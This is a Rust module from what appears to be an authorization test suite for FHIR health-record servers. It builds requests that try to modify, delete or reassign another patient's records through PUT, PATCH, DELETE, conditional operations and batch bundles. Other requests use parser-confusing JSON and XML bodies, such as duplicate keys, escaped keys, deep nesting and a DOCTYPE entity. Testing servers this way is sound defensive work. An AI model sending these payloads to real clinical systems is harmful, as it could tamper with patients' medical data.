//! Groups 6 and 9: what changes somebody's data, or puts something into their record.

use crate::attack::{Attack, get, write};

pub(super) fn all() -> Vec<Attack> {
    [changes(), conditional(), patches(), bodies()].concat()
}

fn observation(subject: &str, more: &str) -> String {
    format!(
        r#"{{"resourceType":"Observation","status":"final","code":{{"text":"x"}},"subject":{{"reference":"{subject}"}}{more}}}"#
    )
}

fn changes() -> Vec<Attack> {
    let with_id = |subject: &str, id: &str| observation(subject, &format!(r#","id":"{id}""#));
    let patch = |path: &str| format!(r#"[{{"op":"replace","path":"{path}","value":"cancelled"}}]"#);
    let json_patch = |attack: Attack, body: &str| attack.content("application/json-patch+json", body);
    vec![
        // Another's made ours, ours made another's, and one made in another's record.
        write(6, "PUT", "Observation/{x}-obs2", &with_id("Patient/zqa-patient", "{x}-obs2")).marker(),
        write(6, "PUT", "Observation/{x}-obs2", &with_id("Patient/{x}-patient", "{x}-obs2")).marker(),
        write(6, "PUT", "Observation/zqa-obs3", &with_id("Patient/{x}-patient", "zqa-obs3")).marker(),
        write(6, "POST", "Observation", &observation("Patient/{x}-patient", "")).marker(),
        write(6, "POST", "Observation", &observation("Patient/{x}-patient/_history/1", "")).marker(),
        write(6, "POST", "Observation", &observation("Patient?identifier=urn:zq|SECRET-{X}", "")).marker(),
        write(6, "POST", "Observation", &observation("Patient?name=Quokka{X}", "")).marker(),
        write(6, "POST", "Observation", &observation("Patient/zqa-patient", r#","encounter":{"reference":"Encounter/{x}-visit"}"#))
            .marker(),
        write(6, "POST", "Condition", r#"{"resourceType":"Condition","subject":{"reference":"Patient/{x}-patient"}}"#).marker(),
        write(6, "PUT", "Patient/{x}-patient", r#"{"resourceType":"Patient","id":"{x}-patient","name":[{"family":"Changed"}]}"#)
            .marker(),
        write(6, "DELETE", "Observation/{x}-obs3", "").marker(),
        write(6, "DELETE", "List/{x}-notes", "").marker(),
        write(6, "DELETE", "Binary/{x}-file", "").marker(),
        write(6, "DELETE", "Group/{x}-group", "").marker(),
        json_patch(write(6, "PATCH", "Observation/{x}-obs2", "").marker(), &patch("/status")),
        json_patch(
            write(6, "PATCH", "Observation/zqa-obs3", "").marker(),
            r#"[{"op":"replace","path":"/subject/reference","value":"Patient/{x}-patient"}]"#,
        ),
        json_patch(
            write(6, "PATCH", "Observation/zqa-obs3", "").marker(),
            r#"[{"op":"add","path":"/performer","value":[{"reference":"Patient/{x}-patient"}]}]"#,
        ),
        json_patch(
            write(6, "PATCH", "Observation/zqa-obs3", "").marker(),
            &format!(r#"[{{"op":"replace","path":"","value":{}}}]"#, with_id("Patient/{x}-patient", "zqa-obs3")),
        ),
        json_patch(
            write(6, "PATCH", "Observation/{x}-obs2", "").marker(),
            r#"[{"op":"test","path":"/valueString","value":"Quokka{X}"},{"op":"replace","path":"/status","value":"amended"}]"#,
        ),
        write(6, "PATCH", "Observation/{x}-obs2",
            r#"{"resourceType":"Parameters","parameter":[{"name":"operation","part":[{"name":"type","valueCode":"replace"},{"name":"path","valueString":"Observation.status"},{"name":"value","valueCode":"amended"}]}]}"#)
            .marker(),
        write(6, "POST", "Observation/{x}-obs1/$meta-add",
            r#"{"resourceType":"Parameters","parameter":[{"name":"meta","valueMeta":{"tag":[{"system":"urn:zq","code":"added"}]}}]}"#)
            .marker(),
        write(6, "POST", "Observation/{x}-obs1/$meta-delete",
            r#"{"resourceType":"Parameters","parameter":[{"name":"meta","valueMeta":{"security":[{"system":"urn:zq","code":"label-{x}"}]}}]}"#)
            .marker(),
        write(6, "POST", "Subscription",
            r#"{"resourceType":"Subscription","status":"requested","reason":"x","criteria":"Observation?patient={x}-patient","channel":{"type":"rest-hook","endpoint":"http://127.0.0.1:9/","payload":"application/fhir+json"}}"#)
            .marker(),
        write(6, "POST", "Provenance",
            r#"{"resourceType":"Provenance","recorded":"2024-01-01T00:00:00Z","target":[{"reference":"Observation/{x}-obs1"}],"agent":[{"who":{"reference":"Patient/{x}-patient"}}]}"#)
            .marker(),
        write(6, "POST", "List",
            r#"{"resourceType":"List","status":"current","mode":"working","subject":{"reference":"Patient/{x}-patient"},"title":"x"}"#)
            .marker(),
    ]
}

fn conditional() -> Vec<Attack> {
    let own = observation("Patient/zqa-patient", "");
    vec![
        write(6, "POST", "Patient", r#"{"resourceType":"Patient","name":[{"family":"Made"}]}"#)
            .header("If-None-Exist", "identifier=urn:zq|SECRET-{X}")
            .marker(),
        write(6, "POST", "Observation", &own)
            .header("If-None-Exist", "code=urn:zq|code-{x}&_id={x}-obs1")
            .marker(),
        write(6, "PUT", "Observation?_id={x}-obs2", &own).marker(),
        write(
            6,
            "PUT",
            "Patient?identifier=urn:zq|SECRET-{X}",
            r#"{"resourceType":"Patient","name":[{"family":"Changed"}]}"#,
        )
        .marker(),
        write(6, "DELETE", "Observation?_id={x}-obs3", "").marker(),
        write(6, "DELETE", "Condition?patient={x}-patient&_id={x}-condition", "").marker(),
        write(6, "PATCH", "Observation?_id={x}-obs2", "")
            .content(
                "application/json-patch+json",
                r#"[{"op":"replace","path":"/status","value":"amended"}]"#,
            )
            .marker(),
    ]
}

/// What one reader takes for A's, and another for somebody else's.
fn bodies() -> Vec<Attack> {
    let refused = "the server refuses it";
    let twice = r#"{"resourceType":"Observation","status":"final","code":{"text":"x"},"subject":{"reference":"Patient/zqa-patient"},"subject":{"reference":"Patient/{x}-patient"}}"#;
    let twice_within = r#"{"resourceType":"Observation","status":"final","code":{"text":"x"},"subject":{"reference":"Patient/zqa-patient","reference":"Patient/{x}-patient"}}"#;
    let escaped = r#"{"resourceType":"Observation","status":"final","code":{"text":"x"},"subj\u0065ct":{"reference":"Patient/{x}-patient"}}"#;
    let first = r#"{"resourceType":"Observation","resourceType":"Condition","status":"final","code":{"text":"x"},"subject":{"reference":"Patient/{x}-patient"}}"#;
    let post = |body: &str| write(9, "POST", "Observation", body).marker().plain();
    let (opened, closed) = (r#"[{"url":"u","extension":"#.repeat(80), "}]".repeat(80));
    let nested = format!(
        r#"{{"resourceType":"Observation","status":"final","code":{{"text":"x"}},"subject":{{"reference":"Patient/{{x}}-patient"}},"extension":{opened}[]{closed}}}"#
    );
    let xml = |body: &str| post("").content("application/fhir+xml", body);
    vec![
        post(twice),
        post(twice_within),
        post(escaped),
        post(first).inert(refused),
        post(&nested),
        post(&format!("\u{feff}{}", observation("Patient/{x}-patient", ""))).inert(refused),
        post(&observation("Patient/{x}-patient", r#","valueQuantity":{"value":1e999999999}"#)).inert(refused),
        post(&observation("Patient/{x}-patient", "")).content("application/fhir+xml", &observation("Patient/{x}-patient", ""))
            .inert(refused),
        post(&observation("Patient/{x}-patient", "")).content("application/fhir+json; charset=utf-16", &observation("Patient/{x}-patient", "")).inert(refused),
        post(&observation("Patient/{x}-patient", "").replace("\"Observation\"", "\"observation\"")).inert(refused),
        xml(r#"<Observation xmlns="http://hl7.org/fhir"><status value="final"/><code><text value="x"/></code><subject><reference value="Patient/{x}-patient"/></subject></Observation>"#),
        xml(r#"<!DOCTYPE o [<!ENTITY p "Patient/{x}-patient">]><Observation xmlns="http://hl7.org/fhir"><status value="final"/><code><text value="x"/></code><subject><reference value="&p;"/></subject></Observation>"#)
            .inert(refused),
        xml(r#"<Observation xmlns="http://hl7.org/fhir"><status value="final"/><code><text value="x"/></code><subject><reference value="Patient/zqa-patient"/></subject><!-- --><performer><reference value="Patient/{x}-patient"/></performer></Observation>"#),
        // A Bundle in a Bundle, and entries whose URLs are anything but plain.
        entry("GET", "/Patient/{x}-patient"),
        entry("GET", "{base}/Patient/{x}-patient").inert("no absolute URLs in a batch"),
        entry("GET", "Patient/{x}-patient?_format=xml"),
        entry("GET", "Observation/_search?patient={x}-patient"),
        entry("GET", "./Patient/{x}-patient").inert(refused),
        entry("HEAD", "Patient/{x}-patient").inert(refused),
        entry("get", "Patient/{x}-patient").inert(refused),
        // Conditions of an entry tell what its answer would.
        entry_with(r#""method":"GET","url":"Patient/{x}-patient","ifNoneMatch":"W/\"1\"""#).twin(),
        entry_with(r#""method":"GET","url":"Patient/{x}-patient","ifModifiedSince":"2050-01-01T00:00:00Z""#).twin(),
        entry_with(r#""method":"GET","url":"Observation?code=code-{x}&_count=0""#).twin(),
        entry_with(r#""method":"GET","url":"Observation?code=code-{x}&_summary=count""#).twin(),
        get(9, "Patient/{x}-patient").header("Content-Type", "application/fhir+json").plain(),
    ]
}

/// What a batch can do to somebody's data with a patch, which comes as a file.
fn patches() -> Vec<Attack> {
    let patch = |url: &str, operations: &str| {
        // Names stand in what is encoded: so it is encoded when they are filled in.
        let body = format!(
            r#"{{"resourceType":"Bundle","type":"batch","entry":[{{"resource":{{"resourceType":"Binary","contentType":"application/json-patch+json","data":"{{base64:{operations}}}"}},"request":{{"method":"PATCH","url":"{url}"}}}}]}}"#
        );
        write(6, "POST", "", &body).marker().plain().changing()
    };
    vec![
        patch("Observation/{x}-obs2", "[{'op':'replace','path':'/status','value':'cancelled'}]"),
        patch("Observation?_id={x}-obs2", "[{'op':'replace','path':'/status','value':'cancelled'}]"),
        patch(
            "Observation/zqa-obs3",
            "[{'op':'replace','path':'/subject/reference','value':'Patient/{x}-patient'}]",
        ),
    ]
}

/// A batch with one entry, as it stands.
fn entry(method: &str, url: &str) -> Attack {
    entry_with(&format!(r#""method":"{method}","url":"{url}""#))
}

/// The same with this request.
fn entry_with(request: &str) -> Attack {
    let body = format!(r#"{{"resourceType":"Bundle","type":"batch","entry":[{{"request":{{{request}}}}}]}}"#);
    write(9, "POST", "", &body).marker().plain()
}
